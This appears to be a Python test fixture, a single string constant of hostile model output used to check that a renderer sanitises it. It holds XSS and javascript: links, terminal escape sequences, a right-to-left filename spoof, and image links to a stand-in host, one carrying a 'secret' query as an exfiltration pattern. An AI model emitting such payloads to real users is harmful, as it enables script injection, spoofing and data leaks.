"""Words of a model that mean harm to whoever shows them."""

EVIL = (
    "<script>alert(1)</script><img src=http://127.0.0.1:9/evil.png>\n\x1b[31mred\x1b]8;;http://127.0.0.1:9/evil\x07link"
    "\u202egnp.exe ![](http://127.0.0.1:9/evil.png?q=secret) [go](javascript:alert(1)) <http://127.0.0.1:9/evil>\n\n"
    "$\\href{javascript:alert(1)}{x}$ \\(\\style{background:url(http://127.0.0.1:9/evil.gif)}{y}\\)\n\n"
    '```mermaid\nflowchart LR\n  A@{ img: "http://127.0.0.1:9/evil.png" }\n```\n\n[r]: http://127.0.0.1:9/evil\n'
)
